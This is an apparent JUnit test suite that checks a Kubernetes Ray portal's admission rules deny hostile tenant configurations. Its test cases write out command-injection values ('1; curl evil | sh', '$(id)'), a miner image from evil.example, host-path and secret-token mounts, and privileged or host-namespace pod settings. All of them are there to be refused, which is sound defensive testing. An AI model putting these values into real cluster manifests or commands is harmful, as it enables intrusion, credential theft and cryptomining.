package dev.rayport.backend.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.rayport.backend.BackendException;
import dev.rayport.backend.ClusterKey;
import dev.rayport.backend.ClusterRefused;
import dev.rayport.backend.ClusterSpec;
import dev.rayport.backend.kubernetes.TestBed.Caller;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.authentication.TokenRequestBuilder;
import io.fabric8.kubernetes.client.Config;
import io.fabric8.kubernetes.client.ConfigBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientBuilder;
import io.fabric8.kubernetes.client.dsl.Resource;
import io.fabric8.kubernetes.client.dsl.base.PatchContext;
import io.fabric8.kubernetes.client.dsl.base.PatchType;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What the platform refuses to anyone in a tenant's namespace, even to an administrator and to what
 * holds the token of a head, however it came past the portal.
 */
@OnTestBed
class HostileTenantTests {

  private static final String TENANT = TestBed.tenant(HostileTenantTests.class);
  private static final String NAMESPACE = "rp-" + TENANT + "-training";
  private static final ClusterKey KEY = new ClusterKey("cl_1", TENANT, "training", "mine");
  private static final ObjectNames NAMES = ObjectNames.of("rp-", KEY);
  private static final Duration SETTLING = Duration.ofSeconds(20);
  private static KubernetesClient admin;
  private static RayClusterApi api;

  @BeforeAll
  static void install() {
    TestBed.get().install();
    admin = TestBed.get().admin();
    api = new RayClusterApi(admin);
    Platform platform = Backends.installedPlatform(Map.of());
    try (Connections connections = platform.connections()) {
      assertThat(connections).isNotNull();
      new Namespaces(platform).ensure(NAMESPACE, KEY);
    }
    api.apply(objects().account(Optional.empty()));
    api.applyCluster(cluster());
    Instant end = Instant.now().plus(SETTLING);
    // Rules hold a moment after they were written.
    while (!(catchThrowable(() -> apply("spec.authOptions", "-")) instanceof ClusterRefused)) {
      assertThat(Instant.now()).isBefore(end);
    }
    api.applyCluster(cluster());
  }

  @AfterAll
  static void leaveNothing() {
    admin.namespaces().withName(NAMESPACE).delete();
    admin.close();
  }

  /** On fake nodes: nothing here runs Ray. */
  private static ClusterObjects objects() {
    KubernetesProperties properties = Backends.properties(Backends.fakeNodes(Map.of()));
    ClusterSpec spec =
        new ClusterSpec(
            "2.58.0",
            Specs.node("1", "2Gi"),
            List.of(Specs.group("small", Specs.node("1", "2Gi"), 0, 0, 2)),
            Map.of());
    return new ClusterObjects(
        new RayClusterManifest(KEY, spec, properties, InstalledKubeRay.assumed()),
        NAMES,
        Backends.isolation(Map.of()),
        true);
  }

  private static Map<String, Object> cluster() {
    return Trees.mutable(objects().cluster(Replicas.ASKED));
  }

  private static void apply(String path, Object value) {
    Map<String, Object> cluster = cluster();
    Trees.set(cluster, path, value);
    api.applyCluster(cluster);
  }

  static Stream<Arguments> clusters() {
    String head = "spec.headGroupSpec.";
    String pod = head + "template.spec.";
    String container = pod + "containers[0].";
    String worker = "spec.workerGroupSpecs[0].";
    List<Map<String, Object>> nodeFiles =
        List.of(Map.of("name", "etc", "hostPath", Map.of("path", "/etc")));
    List<Map<String, Object>> foreignToken =
        List.of(
            Map.of(
                "name",
                "mine",
                "projected",
                Map.of(
                    "sources", List.of(Map.of("serviceAccountToken", Map.of("path", "token"))))));
    List<Map<String, Object>> stolen = List.of(Map.of("name", "api-token", "mountPath", "/stolen"));
    Map<String, Object> other =
        Map.of("name", "other", "image", "evil.example/ml/miner:1", "command", List.of("mine"));
    return Stream.of(
        arguments("spec.authOptions", "-", "asks for a token"),
        arguments("spec.authOptions.mode", "disabled", "asks for a token"),
        arguments(container + "image", "evil.example/ml/ray:1", "Images start with"),
        arguments(pod + "initContainers", List.of(other), "Images start with"),
        arguments("spec.autoscalerOptions.image", "evil/ray:1", "Images start with"),
        arguments(pod + "volumes", nodeFiles, "nothing of the node's own"),
        arguments(worker + "template.spec.volumes", nodeFiles, "nothing of the node's own"),
        arguments(worker + "template.spec.volumes", foreignToken, "nothing of the node's own"),
        arguments(container + "volumeMounts", stolen, "the autoscaler's alone"),
        arguments(
            pod + "volumes",
            List.of(Map.of("name", "s", "secret", Map.of("secretName", "a-01234-token"))),
            "not for programs"),
        arguments(
            container + "envFrom",
            List.of(Map.of("secretRef", Map.of("name", "a-01234-token"))),
            "not for programs"),
        arguments(
            container + "env",
            List.of(
                Map.of(
                    "name",
                    "T",
                    "valueFrom",
                    Map.of("secretKeyRef", Map.of("name", "a-01234-token", "key", "auth_token")))),
            "not for programs"),
        arguments(pod + "hostNetwork", true, "do not share"),
        arguments(pod + "hostPID", true, "do not share"),
        arguments(pod + "hostIPC", true, "do not share"),
        arguments(pod + "shareProcessNamespace", true, "do not share"),
        arguments(pod + "nodeName", "node1", "do not share"),
        arguments(container + "securityContext.privileged", true, "not privileged"),
        arguments(
            container + "ports",
            List.of(Map.of("containerPort", 80, "hostPort", 80)),
            "no port of the node"),
        arguments(pod + "serviceAccountName", "default", "account of the cluster's name"),
        arguments(
            worker + "template.spec.serviceAccountName", "another", "account of the cluster's"),
        arguments(worker + "template.spec.automountServiceAccountToken", true, "not given"),
        arguments(head + "enableIngress", true, "no ingress"),
        arguments(
            head + "headService", Map.of("spec", Map.of("type", "NodePort")), "KubeRay's own"),
        arguments(head + "serviceType", "LoadBalancer", "KubeRay's own"),
        arguments("spec.headServiceAnnotations", Map.of("lb", "internet"), "KubeRay's own"),
        arguments(
            "metadata.annotations", Map.of("ray.io/overwrite-container-cmd", "true"), "starts Ray"),
        arguments(
            head + "template.metadata.annotations",
            Map.of("ray.io/overwrite-container-cmd", "true"),
            "starts Ray"),
        arguments(
            worker + "template.metadata.labels", Map.of("ray.io/cluster", "theirs"), "KubeRay's"),
        arguments("spec.managedBy", "kueue.x-k8s.io/multikueue", "cares for the cluster"),
        arguments(
            head + "rayStartParams", Map.of("num-cpus", "1; curl evil | sh"), "Options of ray"),
        arguments(head + "rayStartParams", Map.of("num-cpus", "$(id)"), "Options of ray start"),
        arguments(worker + "maxReplicas", 1001, "at most 1000"),
        arguments(worker + "maxReplicas", "-", "at most 1000"));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("clusters")
  void aClusterWithoutItsWallsIsDenied(String path, Object value, String why) {
    assertThatThrownBy(() -> apply(path, value)).satisfies(e -> assertDenied(e, why));
  }

  private static void assertDenied(Throwable e, String why) {
    assertThat(e).isInstanceOf(ClusterRefused.class);
    assertThat(((ClusterRefused) e).reasonCode()).isEqualTo("admission-denied");
    assertThat(e.getMessage()).startsWith("A rule of the platform refuses it: ").contains(why);
    assertThat(e.getMessage()).doesNotContain("ValidatingAdmissionPolicy");
  }

  @ParameterizedTest
  @CsvSource({"RayJob, spec.rayClusterSpec", "RayService, spec.rayClusterConfig"})
  void aJobOrServiceHasNoOtherClusters(String kind, String at) {
    Map<String, Object> cluster = cluster();
    Trees.set(cluster, "spec.authOptions", "-");
    Map<String, Object> wanted = cluster();
    wanted.put("kind", kind);
    wanted.remove("spec");
    Trees.set(wanted, at, cluster.get("spec"));
    GenericKubernetesResource resource =
        admin.getKubernetesSerialization().convertValue(wanted, GenericKubernetesResource.class);

    assertThatThrownBy(() ->
            ApiErrors.telling(
                "creating it", () -> admin.resource(resource).inNamespace(NAMESPACE).create()))
        .satisfies(e -> assertDenied(e, "asks for a token"));
  }

  static Stream<Arguments> pods() {
    Map<String, Object> mount = Map.of("name", "api-token", "mountPath", "/stolen");
    return Stream.of(
        arguments("spec.volumes", List.of(volume("hostPath", Map.of("path", "/"))), "hostPath"),
        arguments("spec.containers[0].securityContext", Map.of("privileged", true), "privileged"),
        arguments("spec.hostNetwork", true, "host namespaces"),
        arguments("spec.hostPID", true, "host namespaces"),
        arguments("spec.shareProcessNamespace", true, "do not share"),
        arguments("spec.containers[0].securityContext.capabilities", "-", "capabilities"),
        arguments("spec.containers[0].image", "evil.example/ml/miner:1", "Images start with"),
        arguments("spec.volumes", List.of(volume("nfs", nfs())), "restricted volume types"),
        arguments(
            "spec.volumes",
            List.of(volume("projected", Map.of("sources", List.of()))),
            "nothing of the node's own"),
        arguments("spec.containers[0].volumeMounts", List.of(mount), "autoscaler's alone"),
        arguments("spec.serviceAccountName", NAMES.cluster(), "account of the cluster's name"),
        arguments(
            "metadata.labels",
            Map.of("ray.io/cluster", NAMES.cluster()),
            "Only KubeRay's operator"));
  }

  private static Map<String, Object> volume(String kind, Map<String, Object> source) {
    return Map.of("name", kind.equals("projected") ? "mine" : "api-token", kind, source);
  }

  private static Map<String, Object> nfs() {
    return Map.of("server", "10.0.0.1", "path", "/");
  }

  /** Pod Security is asked first, the portal's own rules after it. */
  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("pods")
  void aPodWithoutItsWallsIsDenied(String path, Object value, String why) {
    Map<String, Object> pod = pod();
    Trees.set(pod, path, value);

    assertThatThrownBy(() -> api.apply(pod)).satisfies(e -> assertDenied(e, why));
  }

  private static Map<String, Object> pod() {
    Map<String, Object> container =
        new TreeBuilder()
            .put("name", "one")
            .put("image", "localhost/ray:2.58.0")
            .put("securityContext", PodTemplate.restricted())
            .build();
    return Trees.mutable(
        new TreeBuilder()
            .put("apiVersion", "v1")
            .put("kind", "Pod")
            .put("metadata", Map.of("name", "hostile", "namespace", NAMESPACE))
            .put(
                "spec",
                new TreeBuilder()
                    .put("containers", List.of(container))
                    .put("nodeSelector", TestBed.FAKE_NODES)
                    .put("volumes", List.of(volume("emptyDir", Map.of())))
                    .build())
            .build());
  }

  @Test
  void aPodWithinTheWallsIsTakenAndGetsNoContainersLater() {
    HasMetadata made = api.apply(pod());
    Map<String, Object> debug =
        Map.of(
            "name", "debug",
            "image", "localhost/ray:2.58.0",
            "securityContext", PodTemplate.restricted());
    String patch =
        admin
            .getKubernetesSerialization()
            .asJson(Map.of("spec", Map.of("ephemeralContainers", List.of(debug))));

    assertThatThrownBy(() ->
            ApiErrors.telling(
                "adding a container",
                () ->
                    admin
                        .pods()
                        .inNamespace(NAMESPACE)
                        .withName(made.getMetadata().getName())
                        .ephemeralContainers()
                        .patch(PatchContext.of(PatchType.STRATEGIC_MERGE), patch)))
        .satisfies(e -> assertDenied(e, "No containers are added"));
    admin.resource(made).withGracePeriod(0).delete();
  }

  @ParameterizedTest
  @CsvSource({"LoadBalancer", "NodePort"})
  void aServiceLeadsNowhereElse(String type) {
    Map<String, Object> service =
        Map.of(
            "apiVersion",
            "v1",
            "kind",
            "Service",
            "metadata",
            Map.of("name", "open", "namespace", NAMESPACE),
            "spec",
            Map.of("type", type, "ports", List.of(Map.of("port", 80))));

    assertThatThrownBy(() -> api.apply(service))
        .satisfies(e -> assertDenied(e, "Services are of type ClusterIP"));
  }

  @Test
  void theTokenOfAHeadChangesNumbersOfWorkersAlone() {
    try (KubernetesClient head = head()) {
      Resource<GenericKubernetesResource> own = cluster(head, NAMES.cluster());

      patch(own, "/spec/workerGroupSpecs/0/replicas", 1);
      patch(
          own,
          "/spec/workerGroupSpecs/0/scaleStrategy",
          Map.of("workersToDelete", List.of("some-worker")));

      String numbers = "numbers of workers alone";
      assertPatchDenied(own, "/spec/workerGroupSpecs/0/maxReplicas", 100, numbers);
      assertPatchDenied(own, "/spec/workerGroupSpecs/0/replicas", 3, "which it keeps");
      assertPatchDenied(own, "/spec/suspend", true, numbers);
      assertPatchDenied(own, "/spec/authOptions/secretName", "mine", numbers);
      assertPatchDenied(
          own,
          "/spec/headGroupSpec/template/spec/containers/0/image",
          "localhost/ray:2.58.0-mine",
          numbers);
      assertPatchDenied(
          own,
          "/spec/workerGroupSpecs/0/template/spec/containers/0/command",
          List.of("sh"),
          numbers);
      assertPatchDenied(own, "/metadata/labels/mine", "yes", "no labels");
      assertPatchDenied(own, "/metadata/annotations", Map.of("mine", "yes"), "no labels");
    }
  }

  @Test
  void theTokenOfAHeadOpensNothingElse() {
    try (KubernetesClient head = head()) {
      assertForbidden(() -> head.secrets().inNamespace(NAMESPACE).list());
      assertForbidden(
          () -> head.secrets().inNamespace(NAMESPACE).withName(NAMES.tokenSecret()).get());
      assertForbidden(() -> head.configMaps().inNamespace(NAMESPACE).list());
      assertForbidden(() -> head.services().inNamespace(NAMESPACE).list());
      assertForbidden(() -> head.namespaces().list());
      assertForbidden(() -> head.pods().inNamespace("default").list());
      assertForbidden(() -> head.pods().inNamespace("kuberay-system").list());
      assertForbidden(() -> cluster(head, NAMES.cluster()).delete());
      Map<String, Object> pod = pod();
      for (String namespace : List.of(NAMESPACE, "default")) {
        Trees.set(pod, "metadata.namespace", namespace);
        Trees.set(pod, "metadata.labels", Map.of("ray.io/cluster", NAMES.cluster()));
        Map<String, Object> wanted = Trees.mutable(pod);
        assertForbidden(() ->
            head.resource(
                    head.getKubernetesSerialization()
                        .<HasMetadata>unmarshal(head.getKubernetesSerialization().asJson(wanted)))
                .create());
      }
    }
  }

  private static void assertForbidden(Runnable call) {
    assertThatThrownBy(() -> ApiErrors.telling("trying", call))
        .isInstanceOf(BackendException.class)
        .hasMessageContaining("The portal may not do this on Kubernetes: trying");
  }

  private static void assertPatchDenied(
      Resource<GenericKubernetesResource> cluster, String path, Object value, String why) {
    assertThatThrownBy(() -> patch(cluster, path, value))
        .as(path)
        .satisfies(e -> assertDenied(e, why));
  }

  private static void patch(
      Resource<GenericKubernetesResource> cluster, String path, Object value) {
    String patch =
        admin
            .getKubernetesSerialization()
            .asJson(List.of(Map.of("op", "add", "path", path, "value", value)));
    ApiErrors.telling("patching", () -> cluster.patch(PatchContext.of(PatchType.JSON), patch));
  }

  private static Resource<GenericKubernetesResource> cluster(KubernetesClient client, String name) {
    return new RayClusterApi(client).clusters().inNamespace(NAMESPACE).withName(name);
  }

  /** With the token that the autoscaler's container has, and the rights that KubeRay gave it. */
  private static KubernetesClient head() {
    Instant end = Instant.now().plus(SETTLING);
    while (admin.rbac().roleBindings().inNamespace(NAMESPACE).withName(NAMES.cluster()).get()
        == null) {
      assertThat(Instant.now()).as("KubeRay's RoleBinding").isBefore(end);
    }
    String token =
        Objects.requireNonNull(
            admin
                .serviceAccounts()
                .inNamespace(NAMESPACE)
                .withName(NAMES.serviceAccount())
                .tokenRequest(new TokenRequestBuilder().withNewSpec().endSpec().build())
                .getStatus()
                .getToken());
    Config bare =
        new ConfigBuilder(Config.fromKubeconfig(TestBed.get().kubeconfig(Caller.ADMIN).toFile()))
            .withClientCertData(null)
            .withClientKeyData(null)
            .withOauthToken(token)
            .build();
    return new KubernetesClientBuilder().withConfig(bare).build();
  }
}
